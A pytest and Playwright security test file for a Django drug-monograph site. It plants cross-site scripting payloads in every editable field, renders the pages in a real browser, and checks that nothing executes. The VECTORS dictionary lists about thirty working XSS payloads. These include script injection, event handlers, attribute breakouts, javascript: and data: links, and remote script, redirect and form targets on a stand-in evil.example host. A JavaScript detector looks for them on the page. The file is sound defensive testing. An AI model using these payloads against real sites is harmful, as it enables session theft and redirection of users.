"""Markup in every field that an editor or a file can fill, looked at in a real browser under the site's real policy."""

from urllib.parse import urlencode

import pytest

from drugs import desk, formats, publishing
from drugs.content import FAQ, Document, DocumentError, DrugClass, Name, Reference, Section, SideEffect
from drugs.models import Publication, SiteText
from tests.support.builders import make_monograph, make_review, publish_document
from tests.support.desk_browser import open_desk, unfold
from tests.support.desk_posts import address_of, change_address, make_user

pytestmark = pytest.mark.django_db(transaction=True)

# One for each class of ways in. Whatever comes alive sets `xss`, or bears it as its name.
VECTORS = {
    "a script": "<script>xss=alert(1)</script>",
    "a script in capitals, unclosed": "<ScRiPt src=//evil.example/xss.js",
    "an event of an element": "<img src=x onerror=xss=alert(1)>",
    "an event that needs no quotes or spaces": "<svg/onload=xss=alert(1)>",
    "an event of an allowed tag": "<b onmouseover=xss=alert(1) id=xss>b</b><sub onclick='xss=1'>2</sub>",
    "an event that needs nobody": "<details open ontoggle=xss=alert(1)><video><source onerror=xss=alert(1)>",
    "the end of an attribute": '" onfocus="xss=alert(1)" autofocus x="',
    "the end of an attribute in apostrophes": "' onfocus='xss=alert(1)' autofocus x='",
    "the end of the title": "</title><script>xss=alert(1)</script>",
    "the end of a text field": "</textarea><img src=x onerror=xss=alert(1)>",
    "the end of a script": "</script><script>xss=alert(1)</script>",
    "a comment": "<!--><img src=x onerror=xss=alert(1)>--><!--[if IE]><script>xss=1</script><![endif]-->",
    "a processing instruction": "<?xml-stylesheet href='javascript:xss=1'?><![CDATA[<script>xss=1</script>]]>",
    "entities": "&lt;script&gt;xss=alert(1)&lt;/script&gt; &#60;img src=x onerror=xss=1&#62;",
    "entities of entities": "&amp;lt;script&amp;gt;xss=alert(1)&amp;lt;/script&amp;gt;",
    "wide letters": "＜script＞xss=alert(1)＜/script＞",
    "a scheme": "[x](javascript:xss=alert(1)) [x](vbscript:xss) [x](data:text/html,<script>xss=1</script>)",
    "a scheme in disguise": "[x](java&#115;cript:xss=1) [x](JaVaScRiPt&colon;xss=1) [x](\\javascript:xss=1)",
    "a link between brackets": "<javascript:xss=alert(1)> <data:text/html,xss>",
    "a link elsewhere on the page": "[x][xss]\n\n[xss]: javascript:xss=alert(1)",
    "the title of a link": "[x](https://example.org/ \"' onmouseover='xss=alert(1)\")",
    "the address of a link": '[x](https://example.org/"onmouseover=xss=alert(1)//)',
    "an image": '![x" onerror="xss=alert(1)](https://evil.example/xss.png "x")',
    "a frame": "<iframe srcdoc='<script>parent.xss=1</script>'></iframe><object data=javascript:xss><embed src=//evil>",
    "a page's head": "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/xss'>",
    "a form": "<form id=xss action=//evil><input name=xss><button formaction=javascript:xss=1>x</button></form>",
    "a style": "<style>*{background:url(//evil/xss)}</style><p style='background:url(//evil/xss)'>x</p>",
    "foreign markup": "<math><mtext><table><mglyph><style><img src=x onerror=xss=1></style></mglyph></table></math>",
    "a template": "<template><script>xss=1</script></template>{{ 7|add:7 }}{% debug %}",
    "a name that scripts read": "<a id=xss><a id=xss name=body href=//evil.example>x</a>",
    "code": "`<img src=x onerror=xss=1>`\n\n```<script>\n<script>xss=1</script>\n```",
    "a table": "|<script>xss=1</script>|b|\n|-|-|\n|<img src=x onerror=xss=1>|[x](javascript:xss=1)|",
}
ALIVE = """() => {
  const found = [];
  const tags = "IFRAME OBJECT EMBED BASE MATH STYLE VIDEO SOURCE MGLYPH".split(" ");
  const ours = document.head.querySelector("style");  // the policy knows its hash, and no other
  for (const element of document.querySelectorAll("*")) {
    if (element === ours) continue;
    if (tags.includes(element.tagName.toUpperCase())) found.push(element.outerHTML.slice(0, 200));
    if (element.tagName === "SCRIPT" && !element.src.startsWith(location.origin + "/")
        && !/^application\\/(ld\\+)?json$/.test(element.type)) found.push(element.outerHTML.slice(0, 200));
    if (/json/.test(element.type) && element.tagName === "SCRIPT") JSON.parse(element.textContent);
    if (element.matches("meta[http-equiv], img[src=x], [id*=xss], [class*=xss], [name*=xss], [style*=evil]"))
      found.push(element.outerHTML.slice(0, 200));
    for (const { name, value } of element.attributes)
      if (/^on/i.test(name) || /^(href|src|action|formaction|data|srcdoc|xlink:href)$/i.test(name)
          && (/^[\\s\\0-\\x20]*(javascript|vbscript|data):/i.test(value)
              || (element.tagName !== "A" && /^(https?:)?\\/\\/evil/.test(value))))
        found.push(`${element.tagName} ${name}=${value.slice(0, 200)}`);
  }
  if (window.xss !== undefined && !(window.xss instanceof Window)) found.push("window.xss");
  return [...found, ...(window.policy || [])];
}"""
WATCH = """addEventListener("securitypolicyviolation", (event) =>
  (window.policy ||= []).push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));"""


TEXTS = list(VECTORS.values())
EVERY = "\n\n".join(TEXTS)


def line(text):
    return " ".join(text.split())


LINES = list(map(line, TEXTS))


def accepted(build, texts):
    """What `build` makes of those texts that it does not refuse."""
    found = []
    for text in texts:
        try:
            found.append(build(text))
        except DocumentError:
            continue
    return tuple(found)


def effect(text):
    urgency = "talk" if len(text) % 2 else "unsorted"
    return SideEffect(line(text).replace("**", ""), text, label=line(text), group="serious", urgency=urgency)


def documents():
    """Pages with every vector in every field."""
    uses = (Section("uses", "", LINES[0]),)
    yield Document(
        "named",
        "Named",
        names=accepted(lambda text: Name(text, "brand"), LINES),
        classes=accepted(lambda text: DrugClass(text, text[:10].strip()), LINES),
        sections=uses,
    )
    addresses = [*(f"https://example.org/{text.replace(' ', '')}" for text in LINES), "javascript:xss=1"]
    yield Document(
        "sourced",
        "Sourced",
        ingredients=tuple(LINES[:9]),
        references=accepted(lambda text: Reference(text, text), LINES)
        + accepted(lambda address: Reference("x", "y", address), addresses),
        sections=uses,
    )
    sections = accepted(
        lambda text: Section("warning" if len(text) % 2 else "other", line(text), text), TEXTS
    )
    yield Document(
        "written",
        "Written",
        sections=(
            *sections,
            Section("side_effects", LINES[0], LINES[1]),
            Section("faqs", LINES[2], LINES[3]),
        ),
        side_effects=accepted(effect, TEXTS),
        faqs=accepted(lambda text: FAQ(line(text), text), TEXTS),
    )
    for number in range(0, len(LINES), 5):
        yield Document(f"titled-{number}", " ".join(LINES[number : number + 5])[:499].strip(), sections=uses)


@pytest.fixture
def hostile_site(monkeypatch):
    """All of it read from page files and published, with vectors in all that stands around documents too."""
    # Some look like placeholders, and nobody would sign them.
    for check in ("blocking_findings", "check"):
        monkeypatch.setattr(f"drugs.content_checks.{check}", lambda *args, **kwargs: [])
    for document in documents():
        read = formats.read(formats.write(document).encode(), stem="x").document
        assert read == document
        monograph = desk.write(read, by="writer")
        review = make_review(by=EVERY[:200], role=EVERY[200:400])
        publishing.publish(monograph, by=EVERY[:200], kind="import", note=EVERY, review=review)
    written = Publication.objects.get(slug="written").monograph
    sections = tuple(Section("other", "", text[::-1]) for text in TEXTS[:4])
    desk.write(Document("written", LINES[4], sections=sections), by=EVERY[:200], monograph=written)
    publishing.publish(written, by="test", kind="safety", note=EVERY)
    desk.write(document_on_desk(), by=EVERY[:200], monograph=written)
    publishing.withdraw(publish_document(slug="gone", title=LINES[0]), reason=EVERY, by="test")
    SiteText.objects.update(body=EVERY)
    return written


def document_on_desk():
    return next(document for document in documents() if document.slug == "written")


def look(page, address):
    page.goto(address)
    assert not page.evaluate(ALIVE), address


def test_no_markup_in_any_field_comes_alive_for_anybody(browser, live_server, hostile_site):
    make_user("pat", is_superuser=True, first_name=LINES[2][:150], last_name=LINES[3][:150])
    page = open_desk(browser, live_server, "pat")
    page.on("dialog", lambda dialog: (page.complaints.append(dialog.message), dialog.dismiss()))
    page.on(
        "request",
        lambda request: request.url.startswith(live_server.url) or page.complaints.append(request.url),
    )
    page.add_init_script(WATCH)
    edition = hostile_site.editions.get(number=1)
    addresses = [publication.get_absolute_url() for publication in Publication.objects.all()]
    addresses += [
        "/",
        "/drugs/?letter=t",
        "/drugs/?letter=0",
        "/classes/",
        "/side-effects/",
        "/about/",
        "/disclaimer/",
    ]
    addresses += ["/drugs/written/history/", "/drugs/written/history/1/", "/drugs/written/history/2/"]
    addresses += [f"/search/?{urlencode({'q': text})}" for text in ("named", "script", EVERY[:300], LINES[3])]
    addresses += [address_of(name, hostile_site) for name in ("publish", "preview", "withdraw")]
    addresses += [address_of(name, hostile_site, 1) for name in ("edition", "restore")]
    addresses += [change_address(hostile_site), "/admin/drugs/monograph/", "/admin/drugs/edition/", "/admin/"]
    addresses += [f"/admin/drugs/edition/{edition.pk}/change/", "/admin/drugs/sitetext/", "/admin/auth/user/"]
    for address in addresses:
        look(page, live_server.url + address)
    assert page.complaints == []


def test_no_markup_comes_alive_while_it_is_typed(browser, live_server):
    monograph = make_monograph()
    make_user("pat", is_superuser=True)
    page = open_desk(browser, live_server, "pat")
    page.on("dialog", lambda dialog: (page.complaints.append(dialog.message), dialog.dismiss()))
    page.add_init_script(WATCH)
    page.goto(live_server.url + change_address(monograph))
    unfold(page, "id_sections-1-body")
    page.fill("#id_sections-1-body", f"{EVERY}\n\nthe end of it")
    page.wait_for_selector("#sections-1 .markdownx-preview :text('the end of it')")
    assert not page.evaluate(ALIVE)
    page.fill("#id_title", LINES[2])
    unfold(page, "id_names-0-text")
    page.fill("#id_names-0-text", LINES[3])
    page.click("[name=_preview]")
    page.wait_for_url("**/preview/#*")
    assert "the end of it" in page.inner_text("body")
    assert not page.evaluate(ALIVE)
    assert page.complaints == []


def test_the_browser_would_have_noticed(browser, live_server):
    page = browser.new_context().new_page()
    page.add_init_script(WATCH)
    page.goto(live_server.url + "/about/")
    page.evaluate(
        "document.body.insertAdjacentHTML('beforeend', '<b id=xss onclick=1></b><img src=//evil.example/x>')"
    )
    page.wait_for_function("(window.policy || []).length > 0")
    found = page.evaluate(ALIVE)
    assert any("onclick" in text for text in found) and any("img-src" in text for text in found)
